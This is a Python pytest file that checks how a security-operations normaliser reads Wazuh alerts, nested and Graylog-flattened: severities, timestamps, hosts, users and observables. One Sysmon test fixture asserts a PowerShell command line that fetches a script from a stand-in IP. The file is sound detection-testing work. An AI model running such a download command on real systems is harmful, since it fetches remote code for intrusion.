"""Alerts of Wazuh 4, nested and as Graylog flattens them."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from socdomain.sources.builtin import BUILTIN_MAPPINGS
from socdomain.sources.mapping import Normaliser
from socdomain.sources.normalised_event import AssetKind, AssetMention, CustomerClaim, NormalisedEvent
from socdomain.sources.severity import Severity
from tests.unit.sources.builtin.wazuh_alerts import SSHD, SYSMON, flattened

NORMALISER = Normaliser(BUILTIN_MAPPINGS["wazuh"])
NAMES, HINTS = CustomerClaim.NAMES, CustomerClaim.HINTS


def values(event: NormalisedEvent) -> set[str]:
    return {f"{observable.type.value} {observable.value}" for observable in event.observables}


def check_sshd(event: NormalisedEvent) -> None:
    assert event.title == "sshd: brute force trying to get access to the system. Non existent user."
    assert event.description == SSHD["full_log"]
    assert (event.severity, event.severity_known, event.level) == (Severity.MEDIUM, True, 10)
    assert event.occurred_at == datetime(2026, 8, 20, 8, 0, 56, 123000, tzinfo=UTC)
    assert event.rule_id == "5712"
    assert event.techniques == ("T1110",)
    assert [(mark.code, mark.claim) for mark in event.customer_marks] == [("acme", NAMES), ("worker-01", HINTS)]
    assert event.document_id == "1787212856.118273"
    assert event.asset == AssetMention(AssetKind.HOST, "web-01", "003")
    assert event.user == "admin"
    assert values(event) == {"ipv4 203.0.113.9", "ipv4 203.0.113.8", "user_account admin"}
    assert event.context["Agent IP"] == "10.0.0.3"
    assert event.context["Source country"] == "Nowhere"


def test_an_alert_of_sshd_is_read_as_an_analyst_would() -> None:
    check_sshd(NORMALISER.normalise(SSHD))


@pytest.mark.parametrize("joint", [".", "_"])
def test_a_flattened_alert_is_read_as_the_nested_one(joint: str) -> None:
    check_sshd(NORMALISER.normalise(flattened(SSHD, joint)))


def check_sysmon(event: NormalisedEvent) -> None:
    assert (event.severity, event.rule_id, event.techniques) == (Severity.HIGH, "92027", ("T1059.001",))
    assert event.asset == AssetMention(AssetKind.HOST, "WS01", "017")
    assert values(event) == {
        "filename powershell.exe",
        "filename PowerShell.EXE",
        "filename explorer.exe",
        "url http://198.51.100.7/a.ps1",
        "ipv4 198.51.100.7",
        "md5 0cc175b9c0f1b6a831c399e269772661",
        "sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
        "user_account corp\\alice",
    }
    assert event.context["Command line"] == "powershell -c iwr http://198.51.100.7/a.ps1"
    assert event.context["Windows event"] == "1"


def test_an_alert_of_sysmon_is_read_as_an_analyst_would() -> None:
    check_sysmon(NORMALISER.normalise(SYSMON))


@pytest.mark.parametrize("joint", [".", "_"])
def test_a_flattened_alert_of_sysmon_is_read_as_the_nested_one(joint: str) -> None:
    check_sysmon(NORMALISER.normalise(flattened(SYSMON, joint)))


def test_a_mixed_document_is_read_too() -> None:
    """Pipelines flatten a part and leave the rest."""
    document = {
        "rule_description": "Mixed",
        "rule": {"level": 7},
        "agent.id": "004",
        "agent": {"name": "ws02"},
        "data": {"win_eventdata_image": "C:\\x\\y.exe", "win.eventdata": {"user": "bob"}},
    }
    event = NORMALISER.normalise(document)
    assert (event.title, event.severity) == ("Mixed", Severity.MEDIUM)
    assert event.asset == AssetMention(AssetKind.HOST, "ws02", "004")
    assert values(event) == {"filename y.exe", "user_account bob"}


def test_graylogs_time_of_receipt_gives_way_to_the_alerts_own() -> None:
    event = NORMALISER.normalise({"timestamp": "2026-08-20 08:00:03.500", "timestamp_utc": "2026-08-20T08:00:00.500Z"})
    assert event.occurred_at == datetime(2026, 8, 20, 8, 0, 0, 500000, tzinfo=UTC)


@pytest.mark.parametrize(
    ("level", "severity"),
    [
        (0, "Low"),
        (6, "Low"),
        (7, "Medium"),
        (11, "Medium"),
        (12, "High"),
        (14, "High"),
        (15, "Critical"),
        (16, "Critical"),
    ],
)
def test_levels_become_severities_at_their_boundaries(level: int, severity: str) -> None:
    event = NORMALISER.normalise({"rule": {"level": level}})
    assert (event.severity.word, event.severity_known, event.level) == (severity, True, level)


def test_an_alert_without_a_level_is_medium_and_marked() -> None:
    event = NORMALISER.normalise({"rule": {"id": "1"}})
    assert (event.severity, event.severity_known, event.level) == (Severity.MEDIUM, False, None)
    assert event.title == "Wazuh alert (rule 1)"
